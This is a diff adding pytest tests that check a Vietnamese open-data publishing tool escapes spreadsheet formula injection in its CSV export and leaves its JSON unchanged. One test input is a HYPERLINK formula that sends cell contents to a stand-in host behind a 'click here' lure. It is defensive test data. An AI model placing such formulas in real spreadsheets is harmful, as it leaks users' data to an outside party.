@@ -277,3 +277,40 @@ def test_a_subject_edit_under_serve_updates_the_exports_and_feeds_not_the_other_
             assert (server.site / rel).read_bytes() == (fresh / rel).read_bytes(), rel
     finally:
         server.stop()
+
+
+# ------------------------------------------------------------------------------------------------
+# CSV formula injection (OWASP): the spreadsheet shows text; the JSON keeps the text as written
+# ------------------------------------------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://x.example/?q="&A1,"Bấm vào đây")', "+84 205 3812 345", "-2+3 công việc",
+            "@SUM(A1:A9) kinh phí"]
+
+
+def test_csv_cells_that_look_like_formulas_are_text_and_json_is_unchanged(tmp_path):
+    from conftest import fixture_text, make_archive
+    from vanban.opendata import write_open_data
+    from vanban.project import load_archive
+
+    files = {}
+    for i, subject in enumerate(FORMULAS, 1):
+        text = fixture_text("ke-hoach-hop-le.md").replace("number: 02/KH-UBND", f"number: {i}/KH-UBND")
+        files[f"2023/{i}.md"] = text.replace("subject: Cải cách hành chính tỉnh Lạng Sơn năm 2023",
+                                             f"subject: {json.dumps(subject, ensure_ascii=False)}")
+    loaded = load_archive(make_archive(tmp_path / "d", files), tmp_path)
+    assert not loaded.errors, loaded.errors
+    write_open_data(tmp_path / "site", loaded.archive, SITE_URL)
+    with (tmp_path / "site" / "du-lieu" / "van-ban.csv").open(encoding="utf-8-sig", newline="") as f:
+        subjects = sorted(row["subject"] for row in csv.DictReader(f))
+    assert subjects == sorted("'" + s for s in FORMULAS)
+    data = json.loads((tmp_path / "site" / "du-lieu" / "van-ban.json").read_text(encoding="utf-8"))
+    assert sorted(d["subject"] for d in data["directives"]) == sorted(FORMULAS)
+
+
+@pytest.mark.parametrize("value, cell", [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
+    ("Kế hoạch = 1", "Kế hoạch = 1"), ("", ""), ("https://a.vn/", "https://a.vn/"),
+])
+def test_csv_cell(value, cell):
+    from vanban.opendata import csv_cell
+    assert csv_cell(value) == cell
